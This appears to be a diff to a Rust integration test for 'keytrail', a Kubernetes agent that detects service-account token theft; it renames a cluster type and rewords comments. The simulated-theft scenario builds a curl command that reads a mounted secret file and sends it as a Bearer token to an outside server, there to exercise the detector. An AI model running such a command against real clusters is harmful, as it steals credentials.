@@ -2,7 +2,7 @@
 
 use anyhow::{Context as _, Result, ensure};
 use lab::{
-    cluster::{API, Cluster, NODE, NODE_NAME},
+    cluster::{API, NODE, NODE_NAME, TestCluster},
     wait_for,
     web::WebServer,
 };
@@ -13,8 +13,8 @@ const IMAGE: &str = "lab.example/keytrail:test";
 const CURL: &str = "lab.example/curl:1";
 const LIMIT: Duration = Duration::from_secs(60);
 
-/// A question to the agent of the node, by the way that its user has.
-fn ask(cluster: &Cluster, arguments: &[&str]) -> Result<Value> {
+/// Queries the node's agent the way its user does.
+fn ask(cluster: &TestCluster, arguments: &[&str]) -> Result<Value> {
     let exec = [
         "exec",
         "--namespace=keytrail",
@@ -26,10 +26,9 @@ fn ask(cluster: &Cluster, arguments: &[&str]) -> Result<Value> {
     serde_json::from_str(&text).with_context(|| text)
 }
 
-/// The hop by which a pod has presented a credential, which is told by how it is listed; `None` until
-/// that is known.
+/// The hop by which a pod has presented a credential; `None` until it is known.
 fn presented(
-    cluster: &Cluster,
+    cluster: &TestCluster,
     pod: &str,
     is_it: impl Fn(&Value) -> bool,
 ) -> Result<Option<Value>> {
@@ -46,13 +45,13 @@ fn presented(
         .find(|hop| hop["workload"]["pod"] == pod && hop["evidence"] == "presented"))
 }
 
-fn findings(cluster: &Cluster) -> Result<Vec<Value>> {
+fn findings(cluster: &TestCluster) -> Result<Vec<Value>> {
     let answer = ask(cluster, &["findings"])?;
     let list = answer.get("findings").unwrap_or(&answer).as_array();
     Ok(list.cloned().unwrap_or_default())
 }
 
-/// A Deployment whose pod uses its token at the API, and leaves a copy where others reach it.
+/// A Deployment whose pod uses its token at the API, and leaves a copy where others can read it.
 fn owner(shared: &Path) -> String {
     let shared = shared.display();
     format!(
@@ -146,7 +145,7 @@ spec:
 #[test]
 fn the_chart_and_a_stolen_token() -> Result<()> {
     ensure!(lab::is_root(), "the scenarios need root");
-    let Some(cluster) = Cluster::start()? else {
+    let Some(cluster) = TestCluster::start()? else {
         return Ok(());
     };
     the_token_is_found(&cluster).with_context(|| {
@@ -158,7 +157,7 @@ fn the_chart_and_a_stolen_token() -> Result<()> {
     })
 }
 
-/// A pod with a Secret at a place that says nothing of it, as it is before there is any agent.
+/// A pod with a Secret at a place that reveals nothing, created before there is any agent.
 const ELDER: &str = r#"apiVersion: v1
 kind: Namespace
 metadata: { name: elder }
@@ -185,8 +184,8 @@ spec:
           volumeMounts: [ { name: app, mountPath: /etc/app } ]
 "#;
 
-/// What is taken out of a pod that is older than the agent, by somebody in it.
-fn the_elder_is_robbed(cluster: &Cluster, outside: &WebServer) -> Result<()> {
+/// A theft by `kubectl exec` from a pod that is older than the agent.
+fn the_elder_is_robbed(cluster: &TestCluster, outside: &WebServer) -> Result<()> {
     let pod = cluster.await_pod("elder", "app=vault")?;
     let steal = format!(
         "curl -sk -o /dev/null -H \"Authorization: Bearer $(cat /etc/app/blob)\" https://{}/",
@@ -221,9 +220,9 @@ fn the_elder_is_robbed(cluster: &Cluster, outside: &WebServer) -> Result<()> {
     Ok(())
 }
 
-fn the_token_is_found(cluster: &Cluster) -> Result<()> {
+fn the_token_is_found(cluster: &TestCluster) -> Result<()> {
     let containerd = cluster.containerd.as_ref().context("containerd runs")?;
-    // An agent of the host, that is there while images are unpacked and pods start and end.
+    // An agent on the host that runs while images are unpacked and pods start and stop.
     let directory = tempfile::tempdir()?;
     let mut beside = lab::agent::Agent::start(directory.path(), &[])?;
     containerd.import(IMAGE, &[&lab::agent::binary()?])?;
@@ -241,7 +240,7 @@ fn the_token_is_found(cluster: &Cluster) -> Result<()> {
             "--namespace=keytrail",
             "--create-namespace",
             "--set",
-            // A state directory of its own: `keytrail` in the pod finds it.
+            // A custom state directory: `keytrail` in the pod finds it.
             &format!(
                 "image.repository={repository},image.tag={tag},stateDir={}",
                 directory.path().join("of-the-chart").display()
@@ -281,7 +280,7 @@ fn the_token_is_found(cluster: &Cluster) -> Result<()> {
     let shared = tempfile::tempdir()?;
     cluster.apply(&owner(shared.path()))?;
     let api = cluster.await_pod("payments", "app=api")?;
-    // Proven at the API, by its name.
+    // Presented at the API, by name.
     let own = wait_for("the token's own use is seen", LIMIT, || {
         presented(cluster, &api, |item| {
             item["label"] == "system:serviceaccount:payments:api"
@@ -299,7 +298,7 @@ fn the_token_is_found(cluster: &Cluster) -> Result<()> {
         };
         Ok(findings(cluster)?.into_iter().find(is_theft))
     })?;
-    // The token itself proves that it went out; both are named, each by all of its names.
+    // The token itself was seen in use; both workloads are named completely.
     assert_eq!(theft["evidence"], "presented", "{theft:#}");
     assert_eq!(theft["severity"], "critical");
     assert_eq!(theft["destination"]["address"], NODE);
@@ -329,7 +328,7 @@ fn the_token_is_found(cluster: &Cluster) -> Result<()> {
     let summary = theft["summary"].as_str().unwrap_or_default();
     let whose = format!("payments/api (deployment, pod {api}, service account api)");
     ensure!(summary.contains(&whose), "{summary}");
-    // The owner's use of it is none of these.
+    // The owner's use of it is not a finding.
     let found = findings(cluster)?;
     ensure!(
         !found.iter().any(|finding| {
